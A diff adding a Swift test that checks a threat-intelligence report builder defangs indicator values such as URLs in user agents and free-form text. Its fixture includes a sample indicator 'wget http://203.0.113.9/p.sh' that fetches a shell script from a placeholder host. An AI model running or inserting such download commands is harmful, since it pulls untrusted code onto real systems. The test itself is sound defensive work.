@@ -185,6 +185,24 @@ struct DefangTests {
         }
     }
 
+    @Test("a free-form value that is text (other, a user agent) shows the addresses it writes defanged; a file's name stays as written")
+    func freeFormValuesDefanged() throws {
+        let workspace = try TemporaryWorkspace()
+        try workspace.addProject("p", visibility: "public", tlp: "clear", indicators: #"""
+            { "indicators": [ { "value": "wget http://203.0.113.9/p.sh", "type": "other" },
+              { "value": "Mozilla/5.0 (compatible; EvilBot/1.0; +http://evil-bot.example/bot.html)", "type": "user-agent" },
+              { "value": "update.zip", "type": "filename" } ] }
+            """#)
+        for format in [ReportFormat.html, .md] {
+            let text = try ReportBuild.run(root: workspace.root, slug: "p", format: format, audience: .public, options: ReportOptions()).text
+            #expect(!text.contains("http://203.0.113.9") && !text.contains("203.0.113.9/") && !text.contains("evil-bot.example"), "\(format)")
+            #expect(text.contains("wget hxxp://203[.]0[.]113[.]9/p.sh") && text.contains("+hxxp://evil-bot[.]example/bot.html"), "\(format)")
+            #expect(text.contains("update.zip"), "\(format)")
+            let plain = try ReportBuild.run(root: workspace.root, slug: "p", format: format, audience: .public, options: ReportOptions(defang: false)).text
+            #expect(plain.contains("wget http://203.0.113.9/p.sh"), "\(format)")
+        }
+    }
+
     @Test("names and descriptions the workspace gives (its title, a tag, a tag's description) are shown defanged in reports and pages; index.json keeps them as written")
     func workspaceTextsDefanged() throws {
         let workspace = try TemporaryWorkspace()
